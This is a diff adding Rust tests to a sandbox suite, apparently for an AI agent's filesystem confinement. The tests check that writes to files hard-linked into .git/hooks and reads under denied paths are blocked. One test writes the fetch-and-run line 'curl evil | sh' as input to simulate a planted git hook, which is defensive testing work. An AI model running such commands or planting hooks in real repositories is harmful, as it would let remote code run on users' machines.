@@ -106,6 +106,17 @@ both!(
         );
         std::fs::remove_file(e.ws.join("src/cfg")).unwrap();
 
+        // Variant (SANDBOX_TESTS 9, the other way): a file of the writable
+        // root linked *into* the carve-out (a planted hook): its data is
+        // the hook's, so the carve-out does not hold it either.
+        std::fs::hard_link(e.ws.join("src/main.rs"), e.ws.join(".git/hooks/pre-commit")).unwrap();
+        let err = run(&e, &i, "echo 'curl evil | sh' > src/main.rs")
+            .await
+            .unwrap_err();
+        assert_eq!(err.code(), Some(ErrorCode::SandboxUnavailable), "{err}");
+        assert!(err.to_string().contains(".git/hooks/pre-commit"), "{err}");
+        std::fs::remove_file(e.ws.join(".git/hooks/pre-commit")).unwrap();
+
         // Variant: a deny_read directory nested in a deny_write one, its file
         // linked into the writable root.
         std::fs::create_dir_all(e.ws.join(".git/private")).unwrap();
@@ -259,6 +270,23 @@ both!(
             .unwrap_err();
         denied(&fs_err(w), "in-place write of a link of .git/config");
         assert_eq!(config(&e), "[core]\n", "agent fs confinement");
+        // A file of the root linked into the carve-out: the same.
+        std::fs::hard_link(e.ws.join("src/main.rs"), e.ws.join(".git/hooks/pre-commit")).unwrap();
+        let w =
+            e.c.call(&write_params(
+                &e.ws.join("src/main.rs"),
+                b"evil\n",
+                false,
+                &rw,
+            ))
+            .await
+            .unwrap_err();
+        denied(&fs_err(w), "in-place write of a file linked into .git");
+        std::fs::remove_file(e.ws.join(".git/hooks/pre-commit")).unwrap();
+        assert_eq!(
+            std::fs::read(e.ws.join("src/main.rs")).unwrap(),
+            b"fn main() {}\n"
+        );
         e.c.call(&write_params(&e.ws.join("src/a"), b"A2\n", false, &rw))
             .await
             .expect("positive control: in place through a link outside the carve-outs");
@@ -405,6 +433,21 @@ both!(
         }
         let mut i = e.ws_write();
         i.filesystem.deny_read = vec![wp(&e.ws.join("secrets"))];
+        // Variant: file carve-outs and one that does not exist: nothing is
+        // looked up below them either (`key/x` is not `not_a_directory`).
+        let mut files = e.ws_write();
+        files.filesystem.deny_read = vec![
+            wp(&e.ws.join("open/key")),
+            wp(&e.ws.join("open/gone")),
+            wp(&e.ws.join("open/dir")),
+        ];
+        for name in ["key", "gone", "dir"] {
+            let path = e.ws.join(format!("open/{name}/x"));
+            for (method, r) in every_method(&e, &files, &path).await {
+                let w = r.unwrap_or_else(|| panic!("{method} {}: succeeded", path.display()));
+                denied(&w, &format!("{method} {}", path.display()));
+            }
+        }
         for name in ["key", "dir", "absent"] {
             for path in [
                 e.ws.join(format!("secrets/{name}/x")),
